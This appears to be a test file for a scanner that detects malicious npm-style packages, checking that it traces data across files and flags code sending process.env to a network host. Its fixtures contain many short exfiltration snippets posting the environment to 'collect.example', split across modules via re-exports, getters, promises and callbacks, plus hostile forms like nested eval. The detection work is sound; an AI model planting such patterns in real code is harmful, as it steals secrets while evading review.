import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { capabilities, scan, signs } from './package-code.ts';

type Files = Readonly<Record<string, string>>;

/** Two files, of which one has the data and the other sends them; how they are joined differs. */
const JOINED: Readonly<Record<string, Files>> = {
  'a function of another file': {
    'index.js': `const { post } = require('./lib/post'); post(JSON.stringify(process.env));`,
    'lib/post.js': `exports.post = (body) => fetch('https://collect.example', { method: 'POST', body });`,
  },
  'a module that is a function': {
    'index.js': `require('./lib')(process.env);`,
    'lib/index.js': `module.exports = function (data) { fetch('https://collect.example', { body: JSON.stringify(data) }); };`,
  },
  'a value of another file': {
    'index.js': `import { all } from './data.js'; fetch('https://collect.example', { method: 'POST', body: all });`,
    'data.js': `export const all = JSON.stringify(process.env);`,
  },
  'a name that a third file exports again': {
    'index.mjs': `import { facts } from './all.mjs'; fetch('https://collect.example', { method: 'POST', body: facts() });`,
    'all.mjs': `export * from './facts.mjs';`,
    'facts.mjs': `export default 1; export function facts() { return JSON.stringify(process.env); }`,
  },
  'another name in a third file': {
    'index.mjs': `import x from './all.mjs'; import { b } from './all.mjs'; fetch('https://collect.example', { body: b });`,
    'all.mjs': `export { a as b } from './facts.mjs'; export default 0;`,
    'facts.mjs': `const a = JSON.stringify(process.env); export { a };`,
  },
  'a getter of compiled code': {
    'index.js': `const lib_1 = require('./lib'); fetch('https://collect.example', { body: (0, lib_1.facts)() });`,
    'lib.js': `Object.defineProperty(exports, 'facts', { enumerable: true, get: function () { return facts_1.facts; } }); const facts_1 = require('./facts');`,
    'facts.js': `exports.facts = facts; function facts() { return JSON.stringify(process.env); }`,
  },
  'an import that is awaited': {
    'index.mjs': `const { facts } = await import('./facts.mjs'); fetch('https://collect.example', { body: facts() });`,
    'facts.mjs': `export const facts = () => JSON.stringify(process.env);`,
  },
  'a function that is passed on': {
    'index.js': `require('./start')((data) => fetch('https://collect.example', { body: data }));`,
    'start.js': `module.exports = (send) => { send(JSON.stringify(process.env)); };`,
  },
  'a promise': {
    'index.js': `const { read } = require('./read'); read().then((body) => fetch('https://collect.example', { body }));`,
    'read.js': `exports.read = () => new Promise((resolve) => { setTimeout(() => resolve(JSON.stringify(process.env)), 10); });`,
  },
  TypeScript: {
    'src/index.ts': `import { post } from './post.js'; post(JSON.stringify(process.env));`,
    'src/post.ts': `export async function post(body: string): Promise<void> { await fetch('https://collect.example', { body }); }`,
  },
};

describe('data are followed from file to file by', () => {
  for (const [name, files] of Object.entries(JOINED))
    test(name, () => assert.ok(signs(scan(files)).includes('sends-environment')));

  test('none of these if the files have nothing to do with each other', () => {
    const record = scan({
      'index.js': `const { post } = require('./post'); post('ready'); require('./run')(process.env);`,
      'post.js': `exports.post = (body) => fetch('https://collect.example', { method: 'POST', body });`,
      'run.js': `module.exports = (env) => require('child_process').spawn('tool', [], { env });`,
    });
    assert.ok(!signs(record).includes('sends-environment'), signs(record).join());
  });

  test('files that load each other without an end', () => {
    const record = scan({
      'a.js': `module.exports = require('./b'); module.exports.x = require('./b').x;`,
      'b.js': `module.exports = require('./a'); exports.x = require('./a').x; module.exports.x(require('./a'));`,
      'c.mjs': `export * from './d.mjs'; export { x } from './d.mjs';`,
      'd.mjs': `export * from './c.mjs'; export { x } from './c.mjs'; fetch('https://host.example');`,
    });
    assert.deepEqual(record.gaps, []);
    assert.ok(capabilities(record).includes('network: host.example'));
  });
});

describe('what runs when a file is loaded', () => {
  const files = {
    'main.js': `require('./lib').start();`,
    'lib.js': `exports.start = () => require('child_process').exec('tool'); exports.later = () => fetch('https://host.example');`,
  };

  test('are also functions of other files that it calls', () => {
    const found = signs(scan(files));
    assert.ok(found.includes('processes-at-start') && !found.includes('network-at-start'), found.join());
  });

  test('are not those that only a program calls that people start', () => {
    const found = signs(scan({ ...files, 'main.js': `#!/usr/bin/env node\n${files['main.js']}` }));
    assert.ok(!found.includes('processes-at-start'), found.join());
  });
});

describe('hostile code', () => {
  const FORMS: readonly string[] = [
    'require(); module.require.bind(module)(); require.call(null); import(x); eval(); Function()(); new Promise();',
    'const [] = require(); const {} = import(x); fetch(); fetch(...fetch); exports = exports; module.exports = module;',
    'Object.defineProperty(exports); Object.defineProperty(exports, "a", {}); exportStar(); __exportStar(require()); x.copy();',
    'export default function () {} export * from ""; import a, { default as b } from "./"; b(a);',
    'const r = { __proto__: null, constructor: 1, length: process.env }; r.constructor(); r["__proto__"].x = r; [].push([].shift());',
    'while (true) { console.log(...[]); } for (;;); do {} while (1);',
    'new Promise((...resolve) => resolve(fetch())); new Promise(([a]) => a(1)); new Promise(resolve => { resolve(resolve) });',
    'window.fetch = fetch; fetch = (...[a, { b }]) => fetch(a, b); localStorage.setItem = eval; http.request = class {};',
    `eval("eval(\\"eval('fetch(1)')\\")"); executeJavaScript(); document.createElement().text = 1;`,
  ];
  for (const text of FORMS)
    test(`does not end the scan: ${text.slice(0, 40)}`, () => {
      assert.deepEqual(scan({ 'index.js': text, 'other.mjs': `require; ${text}` }).gaps, []);
    });
});
